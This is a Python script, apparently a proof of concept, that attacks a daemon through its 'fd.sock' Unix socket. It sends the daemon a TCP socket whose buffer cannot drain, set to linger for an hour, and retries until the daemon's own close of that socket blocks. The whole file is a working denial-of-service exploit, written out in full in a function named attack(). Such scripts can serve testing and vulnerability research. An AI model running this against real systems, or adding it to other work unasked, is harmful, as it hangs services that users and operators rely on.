"""Sends fd.sock a TCP socket that lingers: what it has to send never goes out, since its peer does not read, and its last
close sleeps for an hour. That is to be the daemon's close, so this process has to close its own descriptor first.

    linger.py RUNTIME_DIRECTORY OPCODE
"""
import socket
import struct
import sys
import threading
import time

directory, opcode = sys.argv[1], int(sys.argv[2])
ADOPT = 4

server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen()
unread = []


def lingering_socket():
    lingering = socket.create_connection(server.getsockname())
    unread.append(server.accept()[0])
    lingering.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
    lingering.setblocking(False)
    try:
        while True:
            lingering.send(b"x" * 65536)
    except BlockingIOError:
        return lingering


def attack():
    """Answers the connection if the daemon was the last to close, or None if this process was."""
    lingering = lingering_socket()
    connection = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    connection.connect(directory + "/fd.sock")
    connection.recv(8192)  # WELCOME
    payload = bytes(32) if opcode == ADOPT else (1).to_bytes(8, "little")
    header = struct.pack("<HHIII", opcode, 1, 16 + len(payload), 1, 0)
    closing = threading.Thread(target=lingering.close, daemon=True)
    socket.send_fds(connection, [header + payload], [lingering.fileno()])
    closing.start()
    closing.join(0.5)
    if not closing.is_alive():
        return connection
    connection.close()
    return None


connection = attack()
while connection is None:
    connection = attack()
print("sent", flush=True)
time.sleep(3600)
